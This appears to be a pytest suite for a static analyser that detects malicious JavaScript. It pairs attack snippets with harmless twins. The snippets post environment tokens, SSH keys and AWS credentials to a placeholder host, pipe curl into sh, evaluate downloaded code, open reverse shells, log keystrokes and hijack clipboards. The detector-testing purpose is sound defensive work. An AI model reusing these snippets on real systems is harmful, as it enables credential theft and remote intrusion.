from __future__ import annotations

import pytest

from adapters.sigil.local.code.facts import Behaviour, CodeFacts, Fact
from adapters.sigil.local.code.javascript import javascript_facts


def facts_of(code: str, path: str = "index.js") -> CodeFacts:
    return javascript_facts(path, code.encode())


def first(found: CodeFacts, behaviour: Behaviour) -> Fact:
    return next(fact for fact in found.facts if fact.behaviour is behaviour)


def ways(found: CodeFacts) -> set[tuple[Behaviour, Behaviour]]:
    return {(flow.source.behaviour, flow.sink.behaviour) for flow in found.flows}


FLOWS = [
    pytest.param(
        "const https = require('https');\nhttps.get('https://e.invalid/p', res => { let text = '';"
        "\n res.on('data', d => text += d);\n res.on('end', () => { eval(text); }); });",
        "const https = require('https');\nhttps.get('https://e.invalid/p', res => { let text = '';"
        "\n res.on('data', d => text += d);\n res.on('end', () => { JSON.parse(text); }); });",
        (Behaviour.DOWNLOADS, Behaviour.RUNS_CODE),
        id="downloaded text is evaluated",
    ),
    pytest.param(
        "fetch('https://e.invalid/x').then(r => r.text()).then(eval);",
        "fetch('https://e.invalid/x').then(r => r.text()).then(console.log);",
        (Behaviour.DOWNLOADS, Behaviour.RUNS_CODE),
        id="a promise's text is evaluated",
    ),
    pytest.param(
        "(async () => { const r = await axios.get('https://e.invalid/x'); "
        "new Function('require', r.data.code)(require); })();",
        "(async () => { const r = await axios.get('https://e.invalid/x'); render(r.data.code); })();",
        (Behaviour.DOWNLOADS, Behaviour.RUNS_CODE),
        id="an answer becomes a function",
    ),
    pytest.param(
        "eval(Buffer.from('Y29uc29sZS5sb2coImluZXJ0Iik7Ly9pbmVydA==', 'base64').toString());",
        "console.log(Buffer.from('Y29uc29sZS5sb2coImluZXJ0Iik7Ly9pbmVydA==', 'base64').toString());",
        (Behaviour.DECODES, Behaviour.RUNS_CODE),
        id="decoded text is evaluated",
    ),
    pytest.param(
        "let s = ''; for (const n of [105, 110, 101, 114, 116]) s += String.fromCharCode(n ^ 7); new Function(s)();",
        "let s = ''; for (const n of [105, 110, 101, 114, 116]) s += String.fromCharCode(n ^ 7); print(s);",
        (Behaviour.DECODES, Behaviour.RUNS_CODE),
        id="text unmasked letter by letter is run",
    ),
    pytest.param(
        "const body = JSON.stringify(process.env);\n"
        "const q = require('https').request({hostname: 'e.invalid', method: 'POST'});"
        "\nq.write(body); q.end();",
        "const body = JSON.stringify({mode: process.env.NODE_ENV});\n"
        "const q = require('https').request({hostname: 'e.invalid', method: 'POST'});\nq.write(body); q.end();",
        (Behaviour.READS_ENVIRONMENT, Behaviour.SENDS),
        id="the environment is posted",
    ),
    pytest.param(
        "fetch('https://e.invalid/?t=' + process.env.NPM_TOKEN);",
        "fetch('https://e.invalid/?l=' + process.env.LANG);",
        (Behaviour.READS_ENVIRONMENT, Behaviour.SENDS),
        id="a token goes into a query",
    ),
    pytest.param(
        "const {env: e} = process; const copy = {...e}; require('axios').post('https://e.invalid', copy);",
        "const {env: e} = process; require('child_process').spawn('ls', [], {env: {...e}});",
        (Behaviour.READS_ENVIRONMENT, Behaviour.SENDS),
        id="a copy of the environment is posted",
    ),
    pytest.param(
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const f = path.join(os.homedir(), '.npmrc');\n"
        "fetch('https://e.invalid', {method: 'POST', body: fs.readFileSync(f, 'utf8')});",
        "const fs = require('fs'), os = require('os'), path = require('path');\n"
        "const f = path.join(os.homedir(), '.npmrc');\nparse(fs.readFileSync(f, 'utf8'));",
        (Behaviour.READS_SECRET_FILE, Behaviour.SENDS),
        id="a secret file is posted",
    ),
    pytest.param(
        "const fs = require('fs'); const home = require('os').homedir();\n"
        "const all = ['.ssh/id_rsa', '.aws/credentials']"
        ".map(n => fs.readFileSync(home + '/' + n));\nsend(all);\n"
        "function send(d) { require('axios').post('https://e.invalid', { d }); }",
        "const fs = require('fs'); const home = require('os').homedir();\nconst all = ['a.json', 'b.json']"
        ".map(n => fs.readFileSync(home + '/' + n));\nsend(all);\n"
        "function send(d) { require('axios').post('https://e.invalid', { d }); }",
        (Behaviour.READS_SECRET_FILE, Behaviour.SENDS),
        id="listed secret files are sent by a function",
    ),
    pytest.param(
        "require('dns').lookup(`${require('os').hostname()}.e.invalid`, () => {});",
        "require('dns').lookup('registry.e.invalid', () => console.log(require('os').hostname()));",
        (Behaviour.READS_SYSTEM, Behaviour.LOOKS_UP_NAME),
        id="the host's name is looked up as a part of a name",
    ),
    pytest.param(
        "const f = '/tmp/inert.sh', fs = require('fs'), cp = require('child_process');\n"
        "require('https').get('https://e.invalid/b', r => { const w = fs.createWriteStream(f); r.pipe(w);"
        "\n w.on('finish', () => { fs.chmodSync(f, 0o755); cp.exec(f); }); });",
        "const f = '/tmp/inert.txt', fs = require('fs'), cp = require('child_process');\n"
        "require('https').get('https://e.invalid/b', r => { const w = fs.createWriteStream(f); r.pipe(w);"
        "\n w.on('finish', () => { cp.exec('ls'); }); });",
        (Behaviour.WRITES_FILE, Behaviour.RUNS_SHELL),
        id="what was downloaded and written is run",
    ),
    pytest.param(
        "require('child_process').exec('whoami', "
        "(e, out) => { fetch('https://e.invalid', {method: 'POST', body: out}); });",
        "require('child_process').exec('git status', (e, out) => { console.log(out); });",
        (Behaviour.RUNS_SHELL, Behaviour.SENDS),
        id="a command's output is sent",
    ),
    pytest.param(
        "document.addEventListener('keydown', e => { navigator.sendBeacon('https://e.invalid/k', e.key); });",
        "document.addEventListener('keydown', e => { if (e.key === 'Escape') close(); });",
        (Behaviour.READS_INPUT, Behaviour.SENDS),
        id="keystrokes are sent",
    ),
    pytest.param(
        "navigator.clipboard.readText().then(t => { "
        "navigator.clipboard.writeText(t.replace(/0x[0-9a-f]{40}/, '0xinert')); });",
        "button.onclick = () => navigator.clipboard.writeText(snippet);",
        (Behaviour.READS_CLIPBOARD, Behaviour.WRITES_CLIPBOARD),
        id="the clipboard's text is exchanged",
    ),
    pytest.param(
        "const real = window.fetch; window.fetch = function (u, o) {"
        " real(u, o); return navigator.sendBeacon('https://e.invalid', JSON.stringify(o)); };",
        "const real = window.fetch; window.fetch = function (u, o) { return real(u, o); };",
        (Behaviour.REPLACES_GLOBAL, Behaviour.SENDS),
        id="what a replaced fetch is given is sent on",
    ),
    pytest.param(
        "const cp = require('child_process'), net = require('net');\n"
        "const sh = cp.spawn('/bin/sh', []); const c = new net.Socket();\n"
        "c.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });",
        "const cp = require('child_process');\nconst p = cp.spawn('/bin/ls', []); p.stdout.pipe(process.stdout);",
        (Behaviour.RUNS_PROCESS, Behaviour.CONNECTS_BACK),
        id="a shell is joined to a socket",
    ),
    pytest.param(
        "const fs = require('fs'); fetch('https://e.invalid/s').then(r => r.text())"
        ".then(t => fs.appendFileSync(require('os').homedir() + '/.bashrc', t));",
        "const fs = require('fs'); fetch('https://e.invalid/s').then(r => r.text())"
        ".then(t => fs.appendFileSync('./out.log', t));",
        (Behaviour.DOWNLOADS, Behaviour.WRITES_STARTUP),
        id="a shell's profile gets what was downloaded",
    ),
]


@pytest.mark.parametrize(("attack", "everyday", "way"), FLOWS)
def test_data_is_followed_from_source_to_sink(attack: str, everyday: str, way: tuple[Behaviour, Behaviour]) -> None:
    """Data is followed through variables, callbacks and calls, and an everyday twin shows no such way."""
    assert way in ways(facts_of(attack))
    assert way not in ways(facts_of(everyday))


BEHAVIOURS = [
    pytest.param(
        "require('child_' + 'process').execSync('curl https://e.invalid/i | sh');",
        "require('child_process');",
        Behaviour.RUNS_SHELL,
        "curl https://e.invalid/i | sh",
        id="shell",
    ),
    pytest.param(
        "import { spawn } from 'node:child_process'; spawn('sh', ['-c', `echo ${'in' + 'ert'}`]);",
        "const spawn = 1; f(spawn);",
        Behaviour.RUNS_SHELL,
        "sh -c echo inert",
        id="shell by spawn",
    ),
    pytest.param(
        "require('child_process').spawn('node', ['x.js'], {detached: true, stdio: 'ignore'}).unref();",
        "require('child_process').spawn('node', ['x.js'], {stdio: 'inherit'});",
        Behaviour.HIDES,
        "node x.js",
        id="detached process",
    ),
    pytest.param(
        "global['ev' + 'al']('inert(1); more(2);');",
        "global['set' + 'Timeout'](f);",
        Behaviour.RUNS_CODE,
        "inert(1); more(2);",
        id="eval by its parts",
    ),
    pytest.param(
        "[]['filter']['constructor']('inert(1); more(2)')();",
        "new Function('return this')();",
        Behaviour.RUNS_CODE,
        "inert(1); more(2)",
        id="a function's constructor",
    ),
    pytest.param(
        "require(atob('aHR0cHM='));",
        "require('https');",
        Behaviour.IMPORTS_DYNAMICALLY,
        "https",
        id="decoded module name",
    ),
    pytest.param(
        "f(process['env']['GITHUB_TOKEN']);",
        "f(process['env']['NODE_ENV']);",
        Behaviour.READS_ENVIRONMENT,
        "GITHUB_TOKEN",
        id="token",
    ),
    pytest.param(
        "fetch('http://169.254.169.254/latest/meta-data/iam');",
        "fetch('/api/meta-data');",
        Behaviour.READS_METADATA_SERVICE,
        "http://169.254.169.254/latest/meta-data/iam",
        id="metadata service",
    ),
    pytest.param(
        "fetch('https://e.invalid/a');", "fetch('/api/a');", Behaviour.DOWNLOADS, "https://e.invalid/a", id="download"
    ),
    pytest.param(
        "fetch('https://e.invalid/a', {method: 'POST', body: x});",
        "fetch('/api/a', {method: 'POST', body: x});",
        Behaviour.SENDS,
        "https://e.invalid/a",
        id="send",
    ),
    pytest.param(
        "const x = new XMLHttpRequest(); x.open('POST', 'https://e.invalid/a'); x.send(d);",
        "const x = new XMLHttpRequest(); x.open('POST', '/a'); x.send(d);",
        Behaviour.SENDS,
        "https://e.invalid/a",
        id="XMLHttpRequest",
    ),
    pytest.param(
        "require('os').hostname();", "new URL(u).hostname;", Behaviour.READS_SYSTEM, "hostname", id="host name"
    ),
    pytest.param(
        "require('fs').readFileSync('/home/a/.ssh/id_rsa');",
        "require('fs').readFileSync('./a.txt');",
        Behaviour.READS_SECRET_FILE,
        "/home/a/.ssh/id_rsa",
        id="secret file",
    ),
    pytest.param(
        "require('child_process').exec('(crontab -l; echo x) | crontab -');",
        "require('child_process').exec('ls');",
        Behaviour.WRITES_STARTUP,
        "(crontab -l; echo x) | crontab -",
        id="start by itself",
    ),
    pytest.param(
        "require('child_process').execSync('npm publish --force');",
        "require('child_process').execSync('npm test');",
        Behaviour.CHANGES_PACKAGES,
        "npm publish --force",
        id="publishing",
    ),
    pytest.param(
        "require('fs').rmSync(require('os').homedir(), {recursive: true});",
        "require('fs').rmSync('./dist', {recursive: true});",
        Behaviour.DELETES_FILES,
        "~",
        id="deleting home",
    ),
    pytest.param("window.fetch = g;", "widget.fetch = g;", Behaviour.REPLACES_GLOBAL, "fetch", id="replacing a global"),
    pytest.param(
        "(function () {}).constructor('debugger')();",
        "(function () {}).constructor.name;",
        Behaviour.HIDES,
        "debugger",
        id="a trap for debuggers",
    ),
    pytest.param(
        "require('child_process').exec('bash -i >& /dev/tcp/198.51.100.7/9 0>&1');",
        "require('child_process').exec('bash -n a.sh');",
        Behaviour.CONNECTS_BACK,
        "bash -i >& /dev/tcp/198.51.100.7/9 0>&1",
        id="connecting back by a shell",
    ),
]


@pytest.mark.parametrize(("telling", "everyday", "behaviour", "detail"), BEHAVIOURS)
def test_behaviour_is_told_with_what_it_concerns(
    telling: str, everyday: str, behaviour: Behaviour, detail: str
) -> None:
    """Each behaviour is a fact with its detail folded to a constant, and its everyday twin is none."""
    assert first(facts_of(telling), behaviour).detail == detail
    assert behaviour not in {fact.behaviour for fact in facts_of(everyday).facts}
